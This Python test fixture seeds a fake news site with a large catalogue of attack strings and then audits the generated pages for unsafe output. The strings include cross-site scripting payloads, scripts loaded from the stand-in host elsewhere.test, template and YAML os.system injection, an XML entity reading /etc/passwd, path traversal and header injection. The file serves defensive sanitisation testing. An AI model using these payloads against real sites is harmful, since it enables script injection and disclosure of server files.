"""Known attack strings, a newsroom with each of them in every field, and what must not be in a page made of them.

`hit(...)` is what each of them tries to call; `elsewhere.test` is where each of them tries to go.
"""

from __future__ import annotations

import json
from html import escape

from generator import frontmatter
from tests.folder import CONFIG, Folder

STRINGS = {
    "script": "<script>hit(1)</script>",
    "script broken": "</title></h1></script><script>hit(2)</script>",
    "script open": "<script src=https://elsewhere.test/x.js",
    "script nested": "<scr<script>ipt>hit(3)</scr</script>ipt>",
    "script case": "<ScRiPt\x0c>hit(4)</sCrIpT >",
    "script entity": "&lt;script&gt;hit(5)&lt;/script&gt; &#60;script&#62;hit(6)&#60;/script&#62;",
    "script wide": "＜script＞hit(7)＜/script＞ \u226escript>hit(7)\u226e/script>",
    "image": "<img src=x onerror=hit(8)>",
    "image quote": '"><img src=x onerror=hit(9)>',
    "image quotes": "'\"><img/src=`x`onerror=hit`10`>",
    "image slash": "<img/src/onerror=hit(11)//",
    "image remote": "<img src=https://elsewhere.test/x.png srcset=//elsewhere.test/y.png>",
    "image md": '![x](https://elsewhere.test/x.png) ![y](x"onerror="hit(12)) ![z][r]',
    "svg": "<svg/onload=hit(13)><script>hit(14)</script></svg>",
    "svg animate": "<svg><animate onbegin=hit(15) attributeName=x dur=1s><use href=https://elsewhere.test/#a>",
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(16)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=hit(17)>">',
    "template": "<template><script>hit(18)</script></template><xmp></xmp><plaintext>",
    "frame": "<iframe src=javascript:hit(19) srcdoc='<script>parent.hit(20)</script>'></iframe><frameset onload=hit(21)>",
    "object": "<object data=data:text/html,<script>hit(22)</script>></object><embed src=//elsewhere.test/x>",
    "body": "<body onload=hit(23) background=//elsewhere.test/x.png><details open ontoggle=hit(24)>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:hit(25)'><base href=//elsewhere.test/>",
    "refresh quote": '0; url=https://elsewhere.test/"><meta http-equiv="refresh" content="0; url=//elsewhere.test',
    "style": "<style>@import '//elsewhere.test/x.css';*{display:none}</style><link rel=stylesheet href=//elsewhere.test/x>",
    "style attribute": '<p style="background:url(//elsewhere.test/x.png)">x</p><input autofocus onfocus=hit(26)>',
    "form": "<form action=//elsewhere.test/><button formaction=javascript:hit(27)>Sign in</button></form>",
    "link": "<a href=\"javascript:hit(28)\">x</a> <a href=' jav&#x09;ascript:hit(29)'>x</a> <a href=data:text/html,x>x</a>",
    "link md": "[x](javascript:hit(30)) [x](JaVaScRiPt:hit(31)) [x]( javascript:hit(32)) [x](<javascript:hit(33)>)",
    "link md entity": "[x](javascript&#58;hit(34)) [x](&#106;avascript:hit(35)) [x](java&NewLine;script:hit(36)) [x](\x01javascript:hit(37))",
    "link md data": "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==) [x](vbscript:hit(38)) [x](//elsewhere.test 'a\"onclick=\"hit(39)')",
    "link title": '[x](https://a.test/ "><script>hit(40)</script>") [x](https://a.test/"onmouseover="hit(41))',
    "autolink": '<javascript:hit(42)> <data:text/html,x> <https://a.test/?"onclick="hit(43)> <a@b.test"onclick=hit(44)>',
    "reference": '[x][r] [r] [r][] [r]: javascript:hit(45) "t"',
    "attributes": 'word {: onclick=hit(46) style="position:fixed" } [x](https://a.test/){: onmouseover=hit(47) } *x*{onclick=hit(48)}',
    "comment": "<!-- hidden --> <!--><script>hit(49)</script>--> <![CDATA[<script>hit(50)</script>]]> <?php x ?> <!DOCTYPE x>",
    "in html": "<div markdown=1 onclick=hit(51)>**x**</div> <p markdown>[x](javascript:hit(52))</p>",
    "jinja": "{{ 7*7 }} {{ config.__class__ }} {% for x in range(9) %}{{ x }}{% endfor %} {# gone #} ${7*7} #{7*7} <%= 7*7 %>",
    "snippet": '--8<-- "/etc/passwd" ;--8<-- !!! note ??? danger {! mkdocs.yml !} ::: os ${{ github.token }}',
    "footnote": "[^1] [^1]: <script>hit(53)</script> *[HTML]: <b onclick=hit(54)> [TOC]",
    "block": "# Head {#x onclick=hit(55)} > quote | a | b | ``` <script>hit(56)</script> ~~~ --- ... ===",
    "bidi": "\u202e(45)tih>tpircs\u202c <\u200bscript>hit(57)</script> \u2066x\u2069 \ufeffevil",
    "separator": "a\u2028<script>hit(58)</script>\u2029b\x85c",
    "control": "a\x00<img src=x onerror=hit(59)>\x1b]0;x\x07 \ufffe \uffff",
    "yaml": "!!python/object/apply:os.system ['hit'] &a *a <<: *a",
    "json": '\\u003cscript\\u003ehit(60) "}</script><script>hit(61)</script>',
    "xml": "]]><x/> &x; <!ENTITY x SYSTEM 'file:///etc/passwd'> <?xml-stylesheet href='//elsewhere.test/x'?>",
    "header": "Subject%0d%0aBcc: x@elsewhere.test =?utf-8?q?=3Cscript=3Ehit=2862=29=3C/script=3E?=",
    "path": "../../../../etc/passwd ..\\..\\x /absolute .hidden con nul",
    "proto": "__proto__ constructor toString",
    "clobber": "<form id=digest:search><input name=action><a id=digest:palettes name=cookie></a></form>",
}
# One article holds several strings, each of them alone in its text, and one after the other in all its other fields.
GROUPS = [[*STRINGS.values()][start::17] for start in range(17)]
# Names that are keys of objects in every script, or files of every folder.
NAMES = ("__proto__", "constructor", "toString", "hasOwnProperty", "index", "..", "feed.xml")
KINDS = ("people", "places", "organisations", "subjects", "tags")
SAID = "Officials said on Wednesday that the ferry would sail again, and {} was what they called it."


def text(strings: list[str]) -> str:
    """Each string in a sentence, alone, at the start of a line, in a list, a quote and a table."""
    forms = (SAID, "{}", "- {}", "> {}", "| {} | b |\n|---|---|\n| c | d |", "    {}", "```\n{}\n```")
    return "\n\n".join(form.format(string) for string in strings for form in forms)


def newsroom(folder: Folder) -> None:
    """Writes a site into which strangers and careless hands have put every string in every way that there is."""
    config = CONFIG.replace("Test Digest", "'N <img src=x onerror=hit(90)> {{ 7*7 }}'")
    plugin = "site_description: '\"><script>hit(91)</script>'\nplugins: [{digest: {cards: false}}]"
    folder.write("mkdocs.yml", config.replace("plugins: [digest]", plugin))
    folder.write("content/about.md", "# About\n\nWords.\n")
    for number, strings in enumerate(GROUPS):
        _hand(folder, number, strings)
        _seeds(folder, number, strings)
    _feeds(folder)
    name = "2023/12/20/<img src=x onerror=hit(93)>.md"
    folder.write(f"content/{name}", "---\ntitle: A path\ndate: 2023-12-20\n---\n\nWords.\n")
    for number, name in enumerate(NAMES):
        head = frontmatter.dump({"title": name, "date": "2023-12-20", "tags": [name], "people": [name]})
        folder.write(f"content/2023/12/20/name-{number}.md", f"{head}\nWords.\n")
    rules = {
        f"Known {strings[0]}": {"kind": "people", "aliases": [" ".join(strings), *strings], "description": strings[0]}
        for strings in GROUPS
    }
    stories = {strings[-1]: {"articles": [f"2023/12/{1 + n:02}/hand.md" for n in (0, 1)]} for strings in GROUPS[:1]}
    folder.write("content/vocabulary.yml", json.dumps({"names": rules, "stories": stories}))


def _hand(folder: Folder, number: int, strings: list[str]) -> None:
    """A page with the strings in all of its front matter; its text is the editor's, and stays out of it."""
    day, whole = f"2023-12-{1 + number:02}", " ".join(strings)
    fields: dict[str, str | list[str]] = {
        "title": f"Written {whole}",
        "date": day,
        "summary": whole,
        **dict.fromkeys(("dateline", "agency", "publisher"), whole),
        **{key: [f"{key} {whole}", whole] for key in ("byline", *KINDS)},
        "link": 'https://a.test/?"onclick=hit(92)',
    }
    fields |= {"deck": whole} if number % 2 else {}
    correction = frontmatter.dump({"text": whole}).split("\n")[1].removeprefix("text: ")
    head = frontmatter.dump(fields).rstrip("\n").removesuffix("---")
    head += f"corrections:\n  - {day}: {correction}\n---\n"
    folder.write(f"content/{day.replace('-', '/')}/hand.md", f"{head}\nAn editor’s own words.\n")


def _seeds(folder: Folder, number: int, strings: list[str]) -> None:
    """The strings as Markdown, as plain text (in files named by them), and as a saved page."""
    day, whole = f"2023-12-{1 + number:02}", " ".join(strings)
    body, name = text(strings), whole.replace("/", "∕").replace("\0", "")[:60]
    head: dict[str, str | list[str]] = {
        "title": f"Marked {whole}",
        "date": day,
        **dict.fromkeys(("source", "summary", "dateline", "deck"), whole),
        **{key: [whole] for key in ("author", *KINDS)},
    }
    folder.write(f"seeds/{name}.md", f"{frontmatter.dump(head)}\n{body}\n\n[r]: javascript:hit(94)\n")
    folder.write(f"seeds/{name}.txt", f" date {day} Plain {whole}\n\nBy {whole}\n\nOSTBY – {body}\n")
    facts = {"@type": "NewsArticle", "headline": whole, "datePublished": day, "author": {"name": whole}}
    data = json.dumps(facts | {"description": whole}).replace("</", "<\\/") if number % 2 else "{}"
    top = f"<title>{whole}</title><meta property='og:title' content='Saved {escape(whole)}'>"
    top += f"<meta name=date content={day}><script type='application/ld+json'>{data}</script>"
    raw = "".join(f"<p>{SAID.format(s)}</p>{s}<p>{SAID.format(escape(s))}</p>" for s in strings)
    page = f"<html><head>{top}</head><body><article><h1>Saved {escape(whole)}</h1><p>{SAID.format('so')}</p>{raw}</article>"
    folder.write(f"seeds/saved{number}.html", page)


def _feeds(folder: Folder) -> None:
    """The strings as entries of feeds: as text, as HTML, and as HTML that was escaped once more."""
    items, entries = [], []
    for number, strings in enumerate(GROUPS):
        whole, day = " ".join(strings), f"2023-12-{1 + number:02}"
        said = "".join(f"<p>{SAID.format(string)}</p>" for string in strings)
        items.append(
            {"id": whole, "title": f"Fed {whole}", "date_published": day, "summary": whole, "content_html": said}
            | {"authors": [{"name": whole}], "tags": [whole], "language": whole[:20], "url": "javascript:hit(95)"}
        )
        seen = "".join(letter for letter in whole if letter.isprintable())
        entries.append(
            f"<item><title>Told {escape(seen)}</title><guid>g{number}</guid><pubDate>{day}</pubDate>"
            f"<link>javascript:hit(96)</link><author>{escape(seen)}</author><category>{escape(seen)}</category>"
            f"<description>{escape(SAID.format('so'))} {escape(seen)} {escape(escape(seen))}</description></item>"
        )
    feed = {"version": "https://jsonfeed.org/version/1.1", "items": items}
    folder.write("seeds/feed.json", json.dumps(feed))
    folder.write("seeds/feed.rss", f'<rss version="2.0"><channel><title>x</title>{"".join(entries)}</channel></rss>')
    origin = {"source": STRINGS["image"], "link": 'https://a.test/"onclick=hit(97)', "rights": "full"}
    fetched = {"headline": "Fetched", "firstcreated": "2023-12-20", "body_text": SAID.format("x"), "digest": origin}
    folder.write("seeds/fetched.json", json.dumps(fetched))


# Everything in a document that is more than text, given its root and the address that it has: a list of what is wrong.
AUDIT = """
window.audit = (root, base, site, fragment) => {
  const wrong = []
  const tags = fragment
    ? /^(a|abbr|b|bdi|blockquote|br|code|dd|del|div|dl|dt|em|h[1-6]|hr|i|img|ins|li|ol|p|pre|strong|sub|sup|table|tbody|td|th|thead|tr|ul|html|head|body)$/
    : /^(a|abbr|article|aside|bdi|blockquote|body|br|button|caption|code|dd|del|details|dialog|div|dl|dt|em|fieldset|figcaption|figure|footer|form|h[1-6]|head|header|hr|html|img|input|kbd|label|legend|li|link|main|mark|meta|nav|ol|option|p|path|pre|rect|script|section|select|small|span|strong|style|sub|summary|sup|svg|table|tbody|td|th|thead|time|title|tr|ul)$/
  for (const element of root.querySelectorAll("*")) {
    const tag = element.localName
    const say = (why) => wrong.push(`${why}: ${element.outerHTML.slice(0, 160)}`)
    if (!tags.test(tag)) say("tag")
    if (tag === "script" && !/json$/.test(element.getAttribute("type")) && !new URL(element.getAttribute("src") ?? "x:", base).href.startsWith(`${site}assets/`)) say("script")
    if (tag === "style" && !/editions/.test(base)) say("style")
    const leads = tag === "meta" && root.querySelector(".digest--moved") && /^0; url=[\\w./-]+$/.test(element.content)
    if (tag === "meta" && element.httpEquiv && element.httpEquiv !== "Content-Security-Policy" && !leads) say("meta")
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^srcdoc$|^srcset$|^formaction$|^ping$|^background$|^http$/i.test(name) && !(name === "style" && /editions/.test(base))) say(name)
      if (/^(href|src|action|poster|cite|data|xlink:href|manifest)$/i.test(name)) {
        let to
        try { to = new URL(value, base) } catch { say("no address"); continue }
        if (tag === "a" || tag === "link" && /canonical|alternate/.test(element.rel)) {
          if (!/^(https?|mailto):$/.test(to.protocol)) say("scheme")
          if (/elsewhere[.]test/.test(to.host) && tag !== "a") say("host")
        } else if (to.origin !== new URL(site).origin) say("host")
      }
    }
  }
  return wrong
}
window.hits = []
window.hit = (...args) => { hits.push(String(args)); return "" }
for (const name of ["alert", "confirm", "prompt"]) window[name] = window.hit
"""
